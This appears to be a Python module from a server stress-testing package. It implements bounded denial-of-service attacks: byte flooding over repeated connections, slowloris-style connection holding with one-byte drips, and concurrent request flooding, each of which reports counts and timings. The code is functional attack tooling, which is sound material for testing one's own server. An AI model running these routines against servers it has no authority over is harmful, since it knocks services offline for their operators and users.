"""What attackers do with a socket. Everything has an end: so many bytes, so many seconds."""

from __future__ import annotations

import asyncio
import contextlib
import time
from collections.abc import Awaitable, Callable
from typing import Final, NamedTuple, cast

from attacks.stored_past import Past
from attacks.wire import TROUBLE, Stream, Visitor

MEGABYTE: Final = 1_000_000
# Nobody on the internet is nearer than this: who is thrown out is not back at once.
ROUND_TRIP: Final = 0.005
READ_AT_ONCE: Final = 65536
COME_AGAIN: Final = 100

Report = dict[str, object]


class Target(NamedTuple):
    """Whom to attack, from which address, and until when (of `time.monotonic`)."""

    visitor: Visitor
    until: float
    past: Past | None = None

    def is_time_left(self) -> bool:
        return time.monotonic() < self.until

    def seconds_left(self) -> float:
        return max(0.0, self.until - time.monotonic())


Attack = Callable[[Target], Awaitable[Report]]


class Flood(NamedTuple):
    """First `opening`, then `first` once and `chunk` again and again, `most` bytes in all.

    `waits_for_head` says whether the server is heard in between, `reads` whether its replies are taken afterwards.
    """

    opening: Callable[[Visitor], bytes]
    chunk: bytes
    most: int
    first: bytes = b""
    waits_for_head: bool = False
    reads: bool = True


async def flood(target: Target, plan: Flood) -> Report:
    """On one connection, and on another when it is cut off, until everything is sent or the time is over."""
    sent = connections = 0
    while target.is_time_left() and sent < plan.most:
        connections += 1
        with contextlib.suppress(*TROUBLE, TimeoutError):
            async with asyncio.timeout(target.seconds_left()):
                counted = Counted(plan.most - sent)
                try:
                    await _pour(target, plan, counted)
                finally:
                    sent += counted.sent
        await asyncio.sleep(ROUND_TRIP)
    return {"megabytes": round(sent / MEGABYTE, 2), "connections": connections}


class Counted:
    def __init__(self, left: int) -> None:
        self.left: int = left
        self.sent: int = 0


async def _pour(target: Target, plan: Flood, counted: Counted) -> None:
    """Until all is sent, and then stays until the time is over or the server hangs up."""
    reader, writer = stream = await target.visitor.connected()
    reading: asyncio.Task[None] | None = None
    try:
        writer.write(plan.opening(target.visitor))
        if plan.waits_for_head:
            await reader.readuntil(b"\r\n\r\n")
        writer.write(plan.first)
        if not plan.reads:
            cast("asyncio.Transport", writer.transport).pause_reading()
        else:
            reading = asyncio.create_task(read_all(stream))
        while counted.sent < counted.left and not writer.is_closing():
            writer.write(plan.chunk)
            counted.sent += len(plan.chunk)
            await writer.drain()
            # Where nothing has to be waited for, `drain` lets nobody else in.
            await asyncio.sleep(0)
        await (writer.wait_closed() if reading is None else reading)
    finally:
        if reading is not None:
            reading.cancel()
        writer.transport.abort()


async def read_all(stream: Stream) -> None:
    with contextlib.suppress(OSError):
        while await stream[0].read(READ_AT_ONCE):
            pass


async def crowd(target: Target, count: int, opening: bytes, drip: bytes = b"") -> Report:
    """So many connections, which stay and send a byte of `drip` every second, if there is any.

    Some of those that are thrown out come again: what a server has no room for is one place too many, and without them
    a place that somebody leaves would stay free.
    """
    inside: list[Stream] = []
    try:
        turned_away = await _come_in(target, count, opening, inside)
        beat = 0
        while target.is_time_left():
            for _, writer in inside:
                if drip and not writer.is_closing():
                    writer.write(drip[beat % len(drip) :][:1])
            beat += 1
            await asyncio.sleep(min(1.0, target.seconds_left()))
            turned_away += await _come_in(target, min(COME_AGAIN, count - held_of(inside)), opening, inside)
        return {"connections": len(inside), "turned_away": turned_away, "open_at_the_end": held_of(inside)}
    finally:
        for _, writer in inside:
            writer.transport.abort()


def held_of(streams: list[Stream]) -> int:
    return len([1 for reader, writer in streams if not reader.at_eof() and not writer.is_closing()])


async def _come_in(target: Target, count: int, opening: bytes, inside: list[Stream]) -> int:
    """Returns how often there was no connection."""
    turned_away = 0
    for _ in range(count):
        if not target.is_time_left():
            break
        try:
            async with asyncio.timeout(target.seconds_left()):
                stream = await target.visitor.connected()
            inside.append(stream)
            stream[1].write(opening)
        except (*TROUBLE, TimeoutError):
            turned_away += 1
            await asyncio.sleep(ROUND_TRIP)
    return turned_away


class Replies:
    """How the server replied to many requests: how often with which status, and how long the longest took."""

    def __init__(self) -> None:
        self.count: dict[str, int] = {}
        self.longest: float = 0.0

    def note(self, what: object, began: float) -> None:
        self.count[str(what)] = self.count.get(str(what), 0) + 1
        self.longest = max(self.longest, time.monotonic() - began)

    def report(self) -> Report:
        return {"replies": self.count, "longest_s": round(self.longest, 2)}


async def ask_on_and_on(target: Target, at_once: int, request: Callable[[], Awaitable[int]], most: int) -> Replies:
    """So many at once, each asking again when it is answered; `most` requests in all."""
    replies = Replies()
    left = most

    async def keep_asking() -> None:
        nonlocal left
        while target.is_time_left() and left > 0:
            left -= 1
            began = time.monotonic()
            try:
                async with asyncio.timeout(target.seconds_left()):
                    replies.note(await request(), began)
            except TimeoutError:
                replies.note("none", began)
            except TROUBLE:
                replies.note("cut off", began)
                await asyncio.sleep(ROUND_TRIP)

    await asyncio.gather(*[keep_asking() for _ in range(at_once)])
    return replies
